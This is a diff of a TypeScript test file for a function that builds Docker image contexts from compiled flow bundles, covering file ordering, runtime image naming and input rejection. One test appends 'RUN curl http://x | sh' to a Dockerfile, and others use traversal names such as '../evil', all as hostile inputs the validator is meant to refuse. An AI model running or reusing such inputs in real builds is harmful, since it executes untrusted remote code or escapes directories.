@@ -12,21 +12,19 @@ import { packageNameOf } from './app.modules';
 const flows = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'runtime', 'fixtures', 'page-demo.flows.json'), 'utf8'));
 const bundle = compile(flows, 'demo-tab');
 
-test('a compiled bundle becomes the four files of its context', () => {
-  const { entries, dockerfile } = appContext(bundle);
-  assert.deepEqual(entries.map((e) => e.name), ['Dockerfile', 'databox-manifest.json', 'flows.json', 'package.json']);
-  assert.equal(dockerfile.runtimeVersion, bundle.manifest['runtime-version']);
+test('a compiled bundle becomes the four files of its context, serialized as the bundle format does', () => {
+  const { entries, runtimeVersion, runtimeImage } = appContext(bundle);
+  assert.deepEqual(entries.map((e) => e.name), ['databox-manifest.json', 'Dockerfile', 'flows.json', 'package.json']);
+  assert.equal(runtimeVersion, bundle.manifest['runtime-version']);
+  assert.equal(runtimeImage, `databox/flow-runtime:${bundle.manifest['runtime-version']}`);
   const flowsEntry = entries.find((e) => e.name === 'flows.json');
   assert.ok(flowsEntry && 'content' in flowsEntry);
   assert.deepEqual(JSON.parse(flowsEntry.content.toString()), bundle.flows);
 });
 
-test('an invalid manifest, unsafe extra files and duplicates are refused', () => {
+test('a bundle the validator refuses (manifest, Dockerfile) and unsafe module names are refused', () => {
   assert.throws(() => appContext({ ...bundle, manifest: { ...bundle.manifest, name: 'Not A Name' } }), (e: unknown) => e instanceof DataboxError && e.code === 'manifest-invalid');
-  for (const name of ['../escape', 'flows.json', '/abs']) {
-    assert.throws(() => appContext({ ...bundle, extraFiles: [{ name, content: Buffer.from('x') }] }), (e: unknown) => e instanceof DataboxError && e.code === 'image-context-path', name);
-  }
-  assert.throws(() => appContext({ ...bundle, extraFiles: [{ name: 'a.txt', content: Buffer.from('') }, { name: 'a.txt', content: Buffer.from('') }] }), /twice/);
+  assert.throws(() => appContext({ ...bundle, dockerfile: `${bundle.dockerfile}RUN curl http://x | sh\n` }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-invalid' && /Dockerfile is not the one/.test(e.message));
   assert.throws(() => appContext({ ...bundle, modules: [{ module: '../evil', dir: '/tmp' }] }), (e: unknown) => e instanceof DataboxError && e.code === 'image-module-name');
 });
 
